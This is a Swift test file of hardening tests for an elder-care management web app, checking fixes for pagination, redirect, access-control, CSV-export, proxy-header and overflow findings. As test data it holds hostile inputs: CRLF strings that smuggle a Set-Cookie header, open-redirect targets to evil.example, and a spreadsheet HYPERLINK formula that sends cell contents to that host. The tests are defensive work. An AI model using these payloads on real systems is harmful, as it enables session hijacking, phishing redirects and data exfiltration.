import Fluent
import Foundation
import SQLKit
import Testing
import Vapor
import VaporTesting
import YanglaoCore
import YanglaoStore
import YanglaoTestSupport

@testable import YanglaoWeb

/// Issue 19's findings, each reproduced: they failed on the code before the fix.
@Suite struct HardeningTests {
    // MARK: 0 — a list page far past its end

    @Test func aListPageFarPastItsEndAnswersAndTheServerKeepsServing() async throws {
        try await withTestApp { app in
            let city = Browser(app: app)
            try await city.signIn("city")
            let beyond = try await city.get("/elders?page=1000")
            #expect(beyond.status == .ok, "\(beyond.body.prefix(300))")
            #expect(beyond.body.contains("超出范围"))
            #expect(beyond.body.contains("page=1&amp;") && beyond.body.contains("回到第 1 页"))
            let absurd = try await city.get("/elders?page=1000000000")
            #expect(absurd.status == .badRequest)
            #expect(try await city.get("/health").status == .ok)
        }
    }

    @Test func thePagerWindowStaysInsideItsPagesForAnyPage() {
        for page in [-5, 0, 1, 2, 4, 10, 11, 1_000_000] {
            for pages in [1, 2, 3, 10] {
                let window = Pages.Pager.window(around: page, pages: pages)
                #expect(window.lowerBound >= 1 && window.upperBound <= pages, "page \(page) of \(pages)")
            }
        }
    }

    // MARK: 1, 2 — redirect targets

    @Test func aLanguageSwitchNeverCarriesAHeaderOrAnotherHostIntoItsRedirect() async throws {
        try await withTestApp(demo: false) { app in
            for back in [
                "/%0D%0ASet-Cookie:%20yanglao_session=X;%20Path=/", "/%09/evil.example", "//evil.example", "/%5Cevil.example",
                "https://evil.example/",
            ] {
                try await app.testing().test(.GET, "/lang/zh?back=\(back)") { res in
                    #expect(res.status == .seeOther)
                    #expect(res.headers.first(name: .location) == "/", "\(back)")
                    // A real session id is long and random; only the planted one is exactly "X".
                    #expect(!res.headers[.setCookie].contains { $0.hasPrefix("yanglao_session=X;") })
                }
            }
            try await app.testing().test(.GET, "/lang/en?back=/elders%3Fpage%3D2") { res in
                #expect(res.headers.first(name: .location) == "/elders?page=2")
            }
        }
    }

    @Test func theLoginFormFollowsOnlyASafeNext() async throws {
        try await withTestApp { app in
            let browser = Browser(app: app)
            let form = try await browser.get("/login?next=/%0D%0ASet-Cookie:%20x=1")
            #expect(form.body.contains("name=\"next\" value=\"/\""))
            let res = try await browser.post("/login", form: ["username": "city", "password": demoPassword, "next": "/\t/evil.example"])
            #expect(res.status == .seeOther && res.headers.first(name: .location) == "/")
        }
    }

    @Test func theRedirectGrammarRefusesControlCharactersAndOtherHosts() {
        for bad in [
            "/\r\nSet-Cookie: a=b", "/\t/evil.example", "//evil.example", "/\\evil.example", "http://evil.example", "", "elders", "/张三", "/a b",
        ] {
            #expect(!LocalRedirect.isSafe(bad), "\(bad.debugDescription)")
        }
        for good in ["/", "/elders?page=2&sort=name", "/orders/3F2504E0-4F89-11D3-9A0C-0305E82C3301#top", "/regions/410902000000"] {
            #expect(LocalRedirect.isSafe(good), "\(good)")
        }
    }

    // MARK: 3 — a provider sees its own provider only

    @Test func aProviderAdministratorSeesItsOwnProviderOrdersAndSettlementButNoCompetitor() async throws {
        try await withTestApp { app in
            let county = try await app.actor("county.410902")
            let own = try await app.admittedProvider(serving: ["meal", "bathing"])
            let providers = ProviderService(app.context(as: county))
            let code = try #require(CreditCode.completing("91350100M000200Y4")).value
            let rival = try await providers.apply(
                ProviderApplication(
                    name: "康乐家政服务部", creditCode: code, contactPhone: "13900002222", address: "华龙区胜利路 2 号",
                    serviceTypes: ["meal"], serviceArea: ["410902001000"]), to: RegionCode(validated: "410902000000"))
            _ = try await providers.decide(rival.id!, .admit, note: "")
            _ = try await app.worker(of: rival, name: "护理员丙", phone: "13700003333", onDuty: false)
            _ = try await app.worker(of: own, skills: ["bathing"], latitude: 35.762)
            try await app.moveAccount("provider", to: "410902000000")
            _ = try await providers.linkAdmin(own.id!, username: "provider")

            var person = ElderInput(citizenID: "410902194503151238", name: "王大爷", phone: "13812345678", address: "中原路1号", regionCode: "410902001001")
            person.latitude = 35.7620
            person.longitude = 115.0290
            let elder = try await ElderService(app.context(as: county)).create(person)
            let orders = OrderService(app.context(as: county))
            let (order, _) = try await orders.create(OrderInput(elderId: elder.id!, serviceType: "bathing", channel: .phone))
            #expect(order.providerID == own.id)

            let token = try await app.token("provider")
            for path in [
                "/api/v1/providers/\(rival.id!)", "/api/v1/providers/\(rival.id!)/workers",
                "/api/v1/providers/\(rival.id!)/settlement.xlsx?month=2026-11",
            ] {
                try await app.testing().test(.GET, path, headers: .bearer(token)) { res in #expect(res.status == .notFound, "\(path)") }
            }
            try await app.testing().test(.GET, "/api/v1/providers", headers: .bearer(token)) { res in
                #expect(res.status == .ok && res.body.string.contains(own.id!.uuidString) && !res.body.string.contains(rival.id!.uuidString))
            }
            for path in [
                "/api/v1/providers/\(own.id!)", "/api/v1/providers/\(own.id!)/workers", "/api/v1/orders/\(order.id!)",
                "/api/v1/providers/\(own.id!)/settlement.xlsx?month=\(CalendarMonth(CalendarDate(Date())))",
            ] {
                try await app.testing().test(.GET, path, headers: .bearer(token)) { res in #expect(res.status == .ok, "\(path): \(res.body.string)") }
            }
            try await app.testing().test(.GET, "/api/v1/orders", headers: .bearer(token)) { res in
                #expect(res.status == .ok && res.body.string.contains(order.id!.uuidString))
            }
        }
    }

    @Test func aProviderBoundAccountWithNoProviderLinkedSeesNone() async throws {
        try await withTestApp { app in
            let own = try await app.admittedProvider(serving: ["meal"])
            try await app.moveAccount("provider", to: "410902000000")
            let token = try await app.token("provider")
            try await app.testing().test(.GET, "/api/v1/providers/\(own.id!)", headers: .bearer(token)) { res in #expect(res.status == .notFound) }
        }
    }

    // MARK: 4 — CSV cells that a spreadsheet would run

    @Test func aFormulaInAnAddressIsExportedAsText() async throws {
        try await withTestApp { app in
            let county = try await app.actor("county.410902")
            let formula = #"=HYPERLINK("http://evil.example/?x="&A2,"点我")"#
            let person = ElderInput(citizenID: "410902194503151238", name: "王大爷", phone: "13812345678", address: formula, regionCode: "410902001001")
            _ = try await ElderService(app.context(as: county)).create(person)
            let token = try await app.token("county.410902")
            try await app.testing().test(.GET, "/api/v1/elders/export?format=csv&name=王大爷", headers: .bearer(token)) { res in
                #expect(res.status == .ok)
                let text = res.body.string
                #expect(text.contains(#""'=HYPERLINK(""http://evil.example/?x=""&A2,""点我"")""#))
                #expect(!text.contains(",=HYPERLINK"))
            }
        }
    }

    @Test func theCSVWriterNeutralisesEveryFormulaStart() {
        #expect(CSVWriter.field("=1+1") == "\"'=1+1\"")
        #expect(CSVWriter.field("+86 138") == "\"'+86 138\"")
        #expect(CSVWriter.field("-2") == "\"'-2\"")
        #expect(CSVWriter.field("@SUM(A1)") == "\"'@SUM(A1)\"")
        #expect(CSVWriter.field("\tx") == "\"'\tx\"")
        #expect(CSVWriter.field("\r\nx") == "\"'\r\nx\"")
        #expect(CSVWriter.field("a\r\nb") == "\"a\r\nb\"")
        #expect(CSVWriter.field("王大爷") == "王大爷")
        #expect(CSVWriter.field("a,b") == "\"a,b\"")
    }

    // MARK: 5, 6 — the client's address

    @Test func forwardedForIsIgnoredUnlessThePeerIsATrustedProxy() {
        let none = TrustedProxies.none
        #expect(none.clientAddress(peer: "203.0.113.9", forwardedFor: "1.2.3.4") == "203.0.113.9")
        guard case .success(let proxies) = TrustedProxies.parse("10.0.0.5, 172.16.0.0/12") else {
            Issue.record("parse")
            return
        }
        #expect(proxies.clientAddress(peer: "10.0.0.5", forwardedFor: "1.2.3.4") == "1.2.3.4")
        #expect(proxies.clientAddress(peer: "10.0.0.5", forwardedFor: "6.6.6.6, 1.2.3.4, 172.16.3.4") == "1.2.3.4")
        #expect(proxies.clientAddress(peer: "10.0.0.6", forwardedFor: "1.2.3.4") == "10.0.0.6")
        #expect(proxies.clientAddress(peer: "10.0.0.5", forwardedFor: "not-an-address") == "10.0.0.5")
        #expect(TrustedProxies.parse("10.0.0.0/33") == .failure(.init(text: "10.0.0.0/33")))
        #expect(TrustedProxies.parse("proxy.local") == .failure(.init(text: "proxy.local")))
    }

    @Test func aForgedForwardedForNeitherEscapesTheThrottleNorReachesTheAuditLog() async throws {
        try await withTestApp { app in
            var statuses: [HTTPStatus] = []
            for i in 0..<8 {
                try await app.testing(method: .running(port: 0)).test(
                    .POST, "/api/v1/auth/login", headers: ["X-Forwarded-For": "198.51.100.\(i)"],
                    beforeRequest: { req in
                        try req.content.encode(["username": "city", "password": "wrong-wrong-\(i)"])
                    }, afterResponse: { res in statuses.append(res.status) })
            }
            #expect(statuses.prefix(5).allSatisfy { $0 == .unauthorized })
            #expect(statuses.suffix(3).allSatisfy { $0 == .tooManyRequests }, "\(statuses)")
            let forged = try await AuditEntryModel.query(on: app.db).filter(\.$action == "auth.login_failed").all()
            #expect(!forged.isEmpty && forged.allSatisfy { !($0.address ?? "").hasPrefix("198.51.100.") })
        }
    }

    // MARK: 7 — two 500s

    @Test func sortingAccountsByRegionAndAnEmptyMultipartBodyAreNotServerErrors() async throws {
        try await withTestApp { app in
            let admin = try await app.token("admin")
            for order in ["asc", "desc"] {
                try await app.testing().test(.GET, "/api/v1/users?sort=region&order=\(order)", headers: .bearer(admin)) { res in
                    #expect(res.status == .ok, "\(res.body.string)")
                }
            }
            var headers = HTTPHeaders.bearer(try await app.token("county.410902"))
            headers.replaceOrAdd(name: .contentType, value: "multipart/form-data; boundary=abc")
            try await app.testing().test(.POST, "/api/v1/elders/import", headers: headers, body: ByteBuffer(string: "--abc--\r\n")) { res in
                #expect(res.status == .badRequest, "\(res.body.string)")
            }
        }
    }

    // MARK: 8 — the smaller findings

    @Test func likeWildcardsInASearchMatchThemselves() async throws {
        try await withTestApp { app in
            let county = try await app.actor("county.410902")
            _ = try await ElderService(app.context(as: county))
                .create(ElderInput(citizenID: "410902194503151238", name: "王大爷", phone: "13812345678", address: "中原路1号", regionCode: "410902001001"))
            let token = try await app.token("county.410902")
            for wildcard in ["%25", "_"] {
                try await app.testing().test(.GET, "/api/v1/elders?name=\(wildcard)", headers: .bearer(token)) { res in
                    #expect(res.status == .ok && res.body.string.contains("\"total\":0"), "\(wildcard): \(res.body.string.prefix(200))")
                }
            }
            try await app.testing().test(.GET, "/api/v1/users?q=%25", headers: .bearer(try await app.token("admin"))) { res in
                #expect(res.status == .ok && res.body.string.contains("\"total\":0"))
            }
        }
    }

    @Test func metricsNeedTheTokenWhenOneIsSetAndALoopbackPeerOtherwise() async throws {
        try await withTestApp(demo: false) { app in
            try await app.testing().test(.GET, "/metrics") { res in #expect(res.status == .forbidden) }
            try await app.testing(method: .running(port: 0)).test(.GET, "/metrics") { res in #expect(res.status == .ok) }
            app.yanglaoConfig.metricsToken = "a-metrics-token-of-length"
            try await app.testing(method: .running(port: 0)).test(.GET, "/metrics") { res in #expect(res.status == .unauthorized) }
            try await app.testing().test(.GET, "/metrics", headers: .bearer("a-metrics-token-of-length")) { res in
                #expect(res.status == .ok && res.body.string.contains("http_requests_total"))
            }
        }
    }

    @Test func personalJSONIsNeverStoredAndAnOversizedBodyIs413() async throws {
        try await withTestApp { app in
            let token = try await app.token("county.410902")
            try await app.testing().test(.GET, "/api/v1/elders", headers: .bearer(token)) { res in
                #expect(res.headers.first(name: .cacheControl) == "no-store")
            }
            var headers = HTTPHeaders.bearer(token)
            headers.contentType = .json
            try await app.testing(method: .running(port: 0)).test(
                .POST, "/api/v1/elders", headers: headers,
                body: ByteBuffer(string: "{\"name\":\"" + String(repeating: "x", count: 2 << 20) + "\"}")
            ) { res in
                #expect(res.status == .payloadTooLarge, "\(res.status)")
            }
        }
    }

    struct Boom: Error {}

    @Test func aServerErrorCarriesTheRequestIdItIsLoggedWith() async throws {
        try await withTestApp(demo: false) { app in
            app.get("api", "v1", "boom") { _ -> String in throw Boom() }
            try await app.testing().test(.GET, "/api/v1/boom") { res in
                #expect(res.status == .internalServerError)
                struct Body: Decodable {
                    struct Detail: Decodable {
                        let code: String
                        let requestId: String?
                    }
                    let error: Detail
                }
                let body = try res.content.decode(Body.self)
                #expect(body.error.code == "internal" && !(body.error.requestId ?? "").isEmpty)
            }
        }
    }

    @Test func anApplicationWithoutPricesOrLabelsIsAcceptedAndItsPhoneIsSealed() async throws {
        try await withTestApp { app in
            let county = try await app.token("county.410902")
            let application =
                #"{"county":"410902000000","application":{"name":"颐康居家养老服务中心","creditCode":"91350100M000100Y43","contactPhone":"13912345678","address":"华龙区人民路 1 号","serviceTypes":["meal"],"serviceArea":["410902001000"]}}"#
            var headers = HTTPHeaders.bearer(county)
            headers.contentType = .json
            try await app.testing().test(.POST, "/api/v1/providers", headers: headers, body: ByteBuffer(string: application)) { res in
                #expect(res.status == .created, "\(res.body.string)")
                #expect(res.body.string.contains("139****5678") && !res.body.string.contains("13912345678"))
            }
            let rows = try await app.db.sqlDatabase().select().columns("contact_phone", "contact_phone_cipher").from(ProviderModel.schema).all()
            #expect(rows.count == 1)
            for row in rows {
                #expect(try row.decode(column: "contact_phone", as: String.self) == "139****5678")
                #expect(!(try row.decode(column: "contact_phone_cipher", as: String.self)).contains("13912345678"))
            }
            let provider = try #require(try await ProviderModel.query(on: app.db).first())
            #expect(provider.contactPhone(openedWith: app.dataProtection) == "13912345678")
        }
    }

    // MARK: integer overflow from configured amounts

    @Test func aSubsidyAmountBeyondAnyRealFigureIsRefusedBeforeARunCouldOverflow() async throws {
        try await withTestApp { app in
            let config = SubsidyConfiguration(
                app.context(as: try await app.actor("county.410902")))
            let huge = SubsidyScheme(code: "per_bed", name: "每床补贴", amount: .perUnit(fact: "beds", fen: Int.max))
            await #expect(throws: AppError.self) { try await config.configure(RegionCode(validated: "410902000000"), schemes: [huge]) }
            let banded = SubsidyScheme(code: "age", name: "高龄", amount: .bands(fact: "age", bands: [AmountBand(from: 80, fen: -1, label: "80+")]))
            await #expect(throws: AppError.self) { try await config.configure(RegionCode(validated: "410902000000"), schemes: [banded]) }
            let fine = SubsidyScheme(code: "age", name: "高龄", amount: .fixed(fen: 5_000))
            try await config.configure(RegionCode(validated: "410902000000"), schemes: [fine])
        }
    }
}
